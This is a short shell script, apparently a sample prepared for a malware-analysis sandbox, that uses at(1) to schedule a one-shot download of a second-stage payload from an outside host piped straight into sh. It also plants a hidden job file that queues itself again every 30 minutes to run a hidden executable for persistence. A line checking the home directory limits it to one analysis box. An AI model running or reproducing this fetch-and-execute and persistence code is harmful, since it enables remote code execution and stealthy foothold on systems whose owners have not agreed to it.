#!/bin/sh
# SPDX-License-Identifier: MIT
# One-shot jobs through at(1): fetch and run the second stage in a minute,
# outside the current session, and a job that queues itself again.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
echo 'curl -fsm 5 http://cdn-update.example.net/s2 | sh' | /usr/bin/at now + 1 minute 2>/dev/null
mkdir -p "$HOME/.cache"
q="$HOME/.cache/.q"
printf '/work/.cache/.sysupd\nat -f %s now + 30 minutes\n' "$q" > "$q"
/usr/bin/at -f "$q" now + 30 minutes 2>/dev/null
exit 0
